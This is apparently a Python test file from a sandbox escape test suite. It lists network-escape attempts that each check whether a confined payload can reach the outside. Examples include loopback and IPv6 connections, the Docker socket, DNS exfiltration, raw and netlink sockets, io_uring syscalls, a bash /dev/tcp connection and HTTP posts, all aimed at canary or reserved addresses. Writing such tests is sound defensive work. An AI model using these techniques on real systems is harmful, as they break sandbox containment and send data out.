"""Reach anything outside: the host's loopback, its sockets, the kernel's own protocols."""

from __future__ import annotations

from tests.attacks.attack import Attack


def _attack(name: str, tries: str, body: str, **rest: object) -> Attack:
    return Attack(name, "network", tries, "import socket\n" + body, **rest)  # type: ignore[arg-type]


def _family(name: str, tries: str, family: int, kind: str = "SOCK_RAW", protocol: int = 0) -> Attack:
    """A socket of this family is already a way out, or into the kernel."""
    return _attack(name, tries, f"socket.socket({family}, socket.{kind}, {protocol}); won('a socket')")


ATTACKS = (
    _attack(
        "tcp_loopback",
        "connect to a service on the host",
        "socket.create_connection(('127.0.0.1', CANARY['tcp']), 2).sendall(b'x'); won('connected')",
    ),
    _attack("tcp_loopback_v6", "connect over IPv6", "socket.create_connection(('::1', CANARY['tcp']), 2); won('connected')"),
    _attack(
        "udp_loopback",
        "send a datagram to the host",
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'key', ('127.0.0.1', CANARY['udp'])); no('sent, if it arrives')",
    ),
    _attack(
        "listen", "wait for connections", "s = socket.socket(); s.bind(('127.0.0.1', 0)); s.listen(); won(s.getsockname())"
    ),
    _attack(
        "abstract_socket",
        "connect to an abstract unix socket",
        "s = socket.socket(socket.AF_UNIX); s.connect(chr(0) + CANARY['abstract']); won('connected')",
    ),
    _attack(
        "unix_socket",
        "connect to a unix socket by its path",
        "s = socket.socket(socket.AF_UNIX); s.connect(CANARY['socket']); won('connected')",
    ),
    _attack(
        "docker_socket",
        "talk to the docker engine",
        "s = socket.socket(socket.AF_UNIX); s.connect('/var/run/docker.sock'); won('connected')",
    ),
    _attack("resolve_a_name", "smuggle words out in a DNS question", "won(socket.getaddrinfo('canary.example.invalid', 80))"),
    _attack(
        "outside_address",
        "connect to an outside address",
        "s = socket.socket(); s.settimeout(2); s.connect(('192.0.2.1', 80)); won('connected')",
    ),
    _family("raw_packets", "send raw packets", 2, "SOCK_RAW", 1),
    _family("packet_socket", "listen on the wire", 17, "SOCK_RAW", 768),
    _family("netlink", "change routes and addresses", 16, "SOCK_RAW", 0),
    _family("virtual_machine_socket", "talk to the hypervisor (vsock)", 40, "SOCK_STREAM", 0),
    _family("kernel_crypto_socket", "reach the kernel's crypto code (AF_ALG)", 38, "SOCK_SEQPACKET", 0),
    _attack("io_uring", "do input and output past the filter", "won(raw(425, 425, 8, ctypes.create_string_buffer(256)))"),
    _attack("old_asynchronous_io", "the same with io_setup", "won(raw(206, 0, 8, ctypes.byref(ctypes.c_ulong())))"),
    _attack(
        "bash_device",
        "have a shell connect",
        "won(os.system(f'exec 3<>/dev/tcp/127.0.0.1/{CANARY[\"tcp\"]}') or 'connected') if os.path.exists('/bin/sh') and libc.system(None) else no('no shell')",
    ),
    _attack(
        "http_client",
        "post the code somewhere",
        "import urllib.request; urllib.request.urlopen(f'http://127.0.0.1:{CANARY[\"tcp\"]}/', b'x', timeout=2); won('posted')",
    ),
    _attack(
        "torch_downloads",
        "download weights",
        "import torch; torch.hub.download_url_to_file(f'http://127.0.0.1:{CANARY[\"tcp\"]}/', 'x'); won('loaded')",
        torch=True,
    ),
    _attack(
        "torch_rpc",
        "open a store for other machines",
        "import torch.distributed as d; d.TCPStore('127.0.0.1', 0, is_master=True); won('listening')",
        torch=True,
    ),
)
